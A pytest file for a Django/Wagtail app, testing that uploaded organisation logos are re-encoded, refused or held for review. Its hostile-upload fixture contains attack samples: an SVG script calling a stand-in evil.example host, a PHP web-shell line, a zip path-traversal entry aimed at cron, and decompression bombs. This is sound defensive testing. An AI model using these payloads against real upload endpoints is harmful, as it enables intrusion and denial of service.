"""Logos: what is drawn anew, what is refused with which sentence, who sees one when."""

from __future__ import annotations

import io
import resource
import struct
import time
import zipfile
import zlib

import pytest
from django.urls import reverse
from PIL import Image, PngImagePlugin
from wagtail.models import ModelLogEntry

from signatories.logo_review import hide_logo, show_logo, store_logo
from signatories.logos import KEPT_SIDE, UnusableLogo, read_logo
from signatories.models import Organization, OrganizationLogo
from signatories.services import approve_sign_ons, withdraw_sign_ons
from tests.signatories.factories import NOW, a_letter, a_sign_on

SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("//evil.example")</script></svg>'
SECRET = b"Ana Ruiz, 12 Quay Street"


def picture(kind: str = "PNG", size=(40, 30), mode: str = "RGB", **options) -> bytes:
    image = Image.radial_gradient("L").resize(size).convert(mode)
    stream = io.BytesIO()
    image.save(stream, kind, **options)
    return stream.getvalue()


def with_gps(kind: str) -> bytes:
    exif = Image.Exif()
    exif[0x010E] = SECRET.decode()
    exif[0x8825] = {1: "N", 2: (27.0, 57.0, 2.0), 3: "W", 4: (82.0, 27.0, 26.0)}
    return picture(kind, exif=exif.tobytes())


def moving(kind: str) -> bytes:
    frames = [Image.new("RGB", (20, 20), colour) for colour in ("red", "blue")]
    stream = io.BytesIO()
    frames[0].save(stream, kind, save_all=True, append_images=frames[1:])
    return stream.getvalue()


def chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def bomb(side: int, level: int = 9) -> bytes:
    """Return a PNG that says it is `side` pixels square, with as little data as that takes."""
    header = struct.pack(">IIBBBBB", side, side, 8, 0, 0, 0, 0)
    rows = zlib.compress(b"\x00" * min((side + 1) * side, 30_000_000), level)
    parts = (chunk(b"IHDR", header), chunk(b"IDAT", rows), chunk(b"IEND", b""))
    return b"\x89PNG\r\n\x1a\n" + b"".join(parts)


def text_bomb(kind: bytes) -> bytes:
    """Return a PNG with 60 MB of packed text."""
    packed = zlib.compress(b"A" * 60_000_000, 9)
    body = b"Comment\x00\x00" + packed
    if kind == b"iTXt":
        body = b"Comment\x00\x01\x00\x00\x00" + packed
    good = picture()
    return good[:33] + chunk(kind, body) + good[33:]


def archive() -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as packed:
        packed.writestr("../../etc/cron.d/evil", b"0" * 1_000_000)
    return stream.getvalue()


def hostile() -> dict[str, bytes]:
    """Return F-06's uploads by name."""
    made = {
        "nothing": b"",
        "text": b"logo",
        "svg": SVG,
        "svg with xml": b"<?xml version='1.0'?>" + SVG,
        "svg after spaces": b"\n \n" + SVG,
        "svg with mark": b"\xef\xbb\xbf" + SVG,
        "svg in utf-16": SVG.decode().encode("utf-16"),
        "packed svg": zlib.compress(SVG),
        "html": b"<!DOCTYPE html><html><img src=x></html>",
        "zip": archive(),
        "pdf": b"%PDF-1.7\n%%EOF",
        "50k × 50k": bomb(50_000),
        "20k × 20k": bomb(20_000),
        "5k × 5k": bomb(5_000),
        "one too many": bomb(4_097),
        "60k × 1": picture(size=(4_200, 2)),
        "too many bytes": b"\x89PNG" * 600_000,
        "zTXt bomb": text_bomb(b"zTXt"),
        "iTXt bomb": text_bomb(b"iTXt"),
        "only a start": b"\x89PNG\r\n\x1a\n",
        "no rows": b"\x89PNG\r\n\x1a\n" + chunk(b"IEND", b""),
        "endless chunk": b"\x89PNG\r\n\x1a\n\xff\xff\xff\xffIHDR",
        "moving gif": moving("GIF"),
        "moving png": moving("PNG"),
        "moving webp": moving("WEBP"),
        "tiff": picture("TIFF"),
        "bmp": picture("BMP"),
        "ico": picture("ICO"),
        "ppm": b"P6 1 1 255\n\x00\x00\x00",
        "eps": b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\nshowpage",
        "program": b"\x7fELF" + b"\x00" * 99,
        "icc bomb": picture(icc_profile=bytes(range(256)) * 8_000),
        "php": b"<?php system($_GET[0]);",
    }
    tails = {
        "zip": archive(),
        "script": b"<script>alert(1)</script>",
        "pdf": b"%PDF-1.7",
        "php": b"<?php x",
    }
    for kind in ("PNG", "JPEG", "WEBP", "GIF"):
        for name, tail in tails.items():
            made[f"{kind} then {name}"] = picture(kind) + tail
        made[f"half a {kind}"] = picture(kind, (300, 300))[: len(picture(kind, (300, 300))) // 2]
        damaged = bytearray(picture(kind, (120, 120)))
        damaged[20:60] = b"\x00" * 40
        made[f"damaged {kind}"] = bytes(damaged)
    for kind in ("JPEG", "PNG", "WEBP"):
        made[f"{kind} with place"] = with_gps(kind)
    told = PngImagePlugin.PngInfo()
    told.add_text("Author", SECRET.decode())
    made["PNG with author"] = picture(pnginfo=told)
    made["JPEG with remark"] = picture("JPEG", comment=SECRET)
    made["GIF with remark"] = picture("GIF", comment=SECRET)
    made["JPEG in inks"] = picture("JPEG", mode="CMYK")
    made["one bit"] = picture(mode="1")
    made["16 bit"] = picture(mode="I;16")
    return made


def test_of_hostile_uploads_only_bare_pictures_remain():
    """F-06: at least 60 uploads; only re-encoded PNG, no EXIF, at most 5 s and 512 MB."""
    kept = refused = 0
    sentences: dict[str, str] = {}
    slowest = 0.0
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    uploads = hostile()
    for name, data in uploads.items():
        began = time.process_time()
        try:
            drawn = read_logo(data)
        except UnusableLogo as refusal:
            refused += 1
            sentences[name] = str(refusal)
        else:
            kept += 1
            assert drawn.startswith(b"\x89PNG\r\n\x1a\n"), name
            assert SECRET not in drawn, name
            with Image.open(io.BytesIO(drawn)) as image:
                assert not image.getexif(), name
                assert not image.info.get("icc_profile"), name
                assert set(image.info) <= {"transparency"}, name
                assert max(image.size) <= KEPT_SIDE, name
        slowest = max(slowest, time.process_time() - began)
    grown = (resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before) / 1_024
    print(
        f"F-06: {len(uploads)} uploads, {refused} refused, {kept} drawn anew,"
        f" slowest {slowest:.2f} s, {grown:.0f} MB more"
    )
    assert len(uploads) >= 60
    assert all(sentence.endswith(".") for sentence in sentences.values())
    assert slowest <= 5
    assert grown <= 512


@pytest.mark.parametrize("kind", ["PNG", "JPEG", "WEBP", "GIF"])
def test_an_ordinary_picture_is_kept_and_comes_back_the_same(kind):
    once = read_logo(picture(kind, (400, 300)))
    with Image.open(io.BytesIO(once)) as image:
        assert image.size == (400, 300)
    assert read_logo(once) == once


def test_what_is_seen_through_stays_so():
    drawn = read_logo(picture(mode="RGBA"))
    with Image.open(io.BytesIO(drawn)) as image:
        assert image.mode == "RGBA"


def test_a_large_picture_is_made_smaller():
    with Image.open(io.BytesIO(read_logo(picture(size=(4_096, 1_000))))) as image:
        assert image.size == (1_024, 250)


@pytest.mark.parametrize(
    ("data", "sentence"),
    [
        (SVG, "drawing or a web page"),
        (bomb(50_000), "more than 4096 pixels"),
        (moving("GIF"), "moves"),
        (picture() + archive(), "Something else follows"),
        (b"\x00" * 2_000_001, "larger than 2 MB"),
        (b"", "empty"),
        (b"words", "can't be read"),
    ],
)
def test_a_refusal_says_what_to_do(data, sentence):
    with pytest.raises(UnusableLogo, match=sentence):
        read_logo(data)


@pytest.mark.both_databases
@pytest.mark.django_db
class TestShowing:
    def sent(self, status: str = "approved") -> OrganizationLogo:
        organization = Organization.objects.create(name="Gulf Network")
        sign_on = a_sign_on(a_letter(), status, organization=organization)
        return store_logo(sign_on=sign_on, data=picture(), now=NOW)

    def answer(self, client, logo: OrganizationLogo):
        logo.refresh_from_db()
        return client.get(
            reverse("signatories:logo", args=[logo.organization_id or 1, logo.sha256[:16]])
        )

    def test_nobody_sees_it_before_a_reviewer_says_so(self, client):
        response = self.answer(client, self.sent())
        assert response.status_code == 404
        assert "no-store" in response["Cache-Control"]

    def test_then_everybody_does_and_may_keep_a_copy(self, client):
        logo = self.sent()
        assert show_logo(logo_id=logo.pk, by=None, now=NOW)
        response = self.answer(client, logo)
        assert response.status_code == 200
        assert response["Content-Type"] == "image/png"
        assert "public" in response["Cache-Control"]
        assert not response.cookies
        assert response.content == bytes(logo.content)

    def test_a_hidden_one_is_gone(self, client):
        logo = self.sent()
        show_logo(logo_id=logo.pk, by=None, now=NOW)
        assert hide_logo(logo_id=logo.pk, by=None, now=NOW)
        assert not hide_logo(logo_id=logo.pk, by=None, now=NOW)
        assert self.answer(client, logo).status_code == 404

    def test_it_goes_with_the_last_sign_on(self, client):
        logo = self.sent()
        show_logo(logo_id=logo.pk, by=None, now=NOW)
        withdraw_sign_ons(ids=[logo.sign_on_id], by=None, now=NOW)
        assert self.answer(client, logo).status_code == 404

    def test_a_new_one_takes_the_place_of_the_old(self):
        first = self.sent()
        second = store_logo(sign_on=first.sign_on, data=picture(size=(9, 9)), now=NOW)
        for logo in (first, second):
            if OrganizationLogo.objects.filter(pk=logo.pk).exists():
                show_logo(logo_id=logo.pk, by=None, now=NOW)
        shown = OrganizationLogo.objects.filter(status="shown")
        assert [logo.pk for logo in shown] == [second.pk]

    def test_without_an_organization_none_is_shown(self):
        sign_on = a_sign_on(a_letter())
        logo = store_logo(sign_on=sign_on, data=picture(), now=NOW)
        assert not show_logo(logo_id=logo.pk, by=None, now=NOW)
        approve_sign_ons(ids=[sign_on.pk], by=None, ground="known", now=NOW)
        assert show_logo(logo_id=logo.pk, by=None, now=NOW)

    def test_who_showed_it_is_in_the_log(self, admin_user):
        logo = self.sent()
        show_logo(logo_id=logo.pk, by=admin_user, now=NOW)
        line = ModelLogEntry.objects.get(action="signatories.show_logo")
        assert line.user == admin_user

    def test_an_unusable_one_leaves_nothing(self):
        sign_on = a_sign_on(a_letter())
        with pytest.raises(UnusableLogo):
            store_logo(sign_on=sign_on, data=SVG, now=NOW)
        assert not OrganizationLogo.objects.exists()

    def test_a_reviewer_shows_it_from_the_organizations_page(self, client, admin_client):
        logo = self.sent()
        address = reverse(
            Organization.snippet_viewset.get_url_name("inspect"), args=[logo.organization_id]
        )
        assert "Show this logo" in admin_client.get(address).content.decode()
        admin_client.post(address, {"logo": logo.pk})
        logo.refresh_from_db()
        assert logo.status == "shown"
        admin_client.post(address, {"logo": logo.pk, "hide": "1"})
        logo.refresh_from_db()
        assert logo.status == "hidden"
